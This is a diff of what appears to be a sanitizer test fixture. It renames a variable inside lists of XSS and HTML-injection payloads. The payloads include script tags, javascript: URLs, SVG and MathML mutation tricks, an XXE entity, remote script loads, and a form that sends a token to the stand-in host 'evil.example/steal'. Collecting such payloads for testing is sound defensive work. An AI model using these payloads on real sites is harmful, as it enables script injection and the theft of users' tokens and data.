@@ -4,7 +4,7 @@ export const foreignHost = 'evil.example';
 /** The code that a payload tries to run. */
 export const call = 'alert(1)';
 /** The address that a payload tries to reach. */
-export const far = `//${foreignHost}`;
+export const foreignUrl = `//${foreignHost}`;
 
 /** Splits a text into lines without indentation. */
 export const lines = (text: TemplateStringsArray, ...values: string[]): string[] =>
@@ -52,10 +52,10 @@ const scripts = lines`
   <script>${call}</script>
   <SCRIPT>${call}</SCRIPT>
   <ScRiPt >${call}</sCrIpT >
-  <script src=${far}/a.js></script>
-  <script src="https:${far}/b.js" defer></script>
+  <script src=${foreignUrl}/a.js></script>
+  <script src="https:${foreignUrl}/b.js" defer></script>
   <script/src=data:,${call}></script>
-  <script type=module>import '${far}/m.js'</script>
+  <script type=module>import '${foreignUrl}/m.js'</script>
   <script type="text/javascript"/**/>${call}</script>
   <<script>${call}//<</script>
   <scr<script>ipt>${call}</scr</script>ipt>
@@ -87,54 +87,54 @@ const addresses = lines`
   <a href="vbscript:msgbox(1)">x</a>
   <a href="data:text/html,<script>${call}</script>">x</a>
   <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
-  <a href="${far}/" target=_blank>x</a>
+  <a href="${foreignUrl}/" target=_blank>x</a>
   javascript:${call}
   javascript://%0a${call}
   javascript:/*--></title></style></textarea></script><svg onload=${call}>
   data:text/html,<script>${call}</script>
-  blob:${far}/x
+  blob:${foreignUrl}/x
   <form action=javascript:${call}><button>x</button></form>
   <form><button formaction=javascript:${call}>x</button></form>
-  <form action=${far}/steal><input name=token></form>
+  <form action=${foreignUrl}/steal><input name=token></form>
   <isindex type=image src=1 onerror=${call}>
   <iframe src=javascript:${call}></iframe>
   <iframe srcdoc="<script>parent.${call}</script>"></iframe>
   <iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>
-  <iframe src=${far}/frame></iframe>
+  <iframe src=${foreignUrl}/frame></iframe>
   <object data=javascript:${call}></object>
   <object data="data:text/html,<script>${call}</script>"></object>
   <embed src=javascript:${call}>
-  <embed src=${far}/x.swf>
-  <base href=${far}/>
+  <embed src=${foreignUrl}/x.swf>
+  <base href=${foreignUrl}/>
   <base target=_blank href=javascript:${call}>
   <meta http-equiv=refresh content="0;url=javascript:${call}">
-  <meta http-equiv=refresh content="0;url=${far}/">
+  <meta http-equiv=refresh content="0;url=${foreignUrl}/">
   <meta http-equiv=Content-Security-Policy content="default-src *">
-  <link rel=import href=${far}/i>
-  <link rel=prefetch href=${far}/p>
-  <link rel=preconnect href=${far}>
-  <img src=${far}/pixel.gif>
-  <img srcset="${far}/a 1x, ${far}/b 2x">
-  <picture><source srcset=${far}/s><img src=x></picture>
-  <img longdesc=javascript:${call} src=${far}/l>
-  <video poster=${far}/poster></video>
-  <audio src=${far}/a.mp3 autoplay></audio>
-  <track src=${far}/t>
-  <input type=image src=${far}/i formaction=javascript:${call}>
-  <body background=${far}/bg>
-  <table background=${far}/bg2><td>
-  <a ping=${far}/ping href=#>x</a>
+  <link rel=import href=${foreignUrl}/i>
+  <link rel=prefetch href=${foreignUrl}/p>
+  <link rel=preconnect href=${foreignUrl}>
+  <img src=${foreignUrl}/pixel.gif>
+  <img srcset="${foreignUrl}/a 1x, ${foreignUrl}/b 2x">
+  <picture><source srcset=${foreignUrl}/s><img src=x></picture>
+  <img longdesc=javascript:${call} src=${foreignUrl}/l>
+  <video poster=${foreignUrl}/poster></video>
+  <audio src=${foreignUrl}/a.mp3 autoplay></audio>
+  <track src=${foreignUrl}/t>
+  <input type=image src=${foreignUrl}/i formaction=javascript:${call}>
+  <body background=${foreignUrl}/bg>
+  <table background=${foreignUrl}/bg2><td>
+  <a ping=${foreignUrl}/ping href=#>x</a>
   <area href=javascript:${call}><map>
-  <xml src=${far}/x></xml>
-  <portal src=${far}/portal></portal>
+  <xml src=${foreignUrl}/x></xml>
+  <portal src=${foreignUrl}/portal></portal>
   [x](javascript:${call})
-  ![x](${far}/md.png)
+  ![x](${foreignUrl}/md.png)
   [x]: javascript:${call}
 `;
 
 const drawings = lines`
   <svg><script>${call}</script></svg>
-  <svg><script href=${far}/s.js /></svg>
+  <svg><script href=${foreignUrl}/s.js /></svg>
   <svg><script xlink:href=data:,${call} /></svg>
   <svg><a xlink:href=javascript:${call}><text y=20>x</text></a></svg>
   <svg><a href=javascript:${call}><rect width=99 height=99 /></a></svg>
@@ -143,15 +143,15 @@ const drawings = lines`
   <svg><set attributeName=onmouseover to=${call}>
   <svg><animateTransform onbegin=${call}>
   <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">
-  <svg><use xlink:href=${far}/sprite.svg#x>
-  <svg><image href=${far}/i.svg>
+  <svg><use xlink:href=${foreignUrl}/sprite.svg#x>
+  <svg><image href=${foreignUrl}/i.svg>
   <svg><foreignObject><iframe src=javascript:${call}></foreignObject></svg>
   <svg><style><img src=x onerror=${call}></style>
   <svg><title><style><img src=x onerror=${call}></style></title></svg>
   <svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>
   <svg><discard onbegin=${call}>
   <svg><handler type="text/javascript" ev:event=load>${call}</handler></svg>
-  <svg><feImage href=${far}/fe />
+  <svg><feImage href=${foreignUrl}/fe />
   <math href=javascript:${call}>x</math>
   <math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>
   <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">
@@ -160,7 +160,7 @@ const drawings = lines`
   <form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>
   <svg></p><style><a id="</style><img src=1 onerror=${call}>">
   <?xml-stylesheet href="javascript:${call}"?>
-  <!DOCTYPE x [<!ENTITY e SYSTEM "${far}/dtd">]><x>&e;</x>
+  <!DOCTYPE x [<!ENTITY e SYSTEM "${foreignUrl}/dtd">]><x>&e;</x>
   <![CDATA[<script>${call}</script>]]>
 `;
 
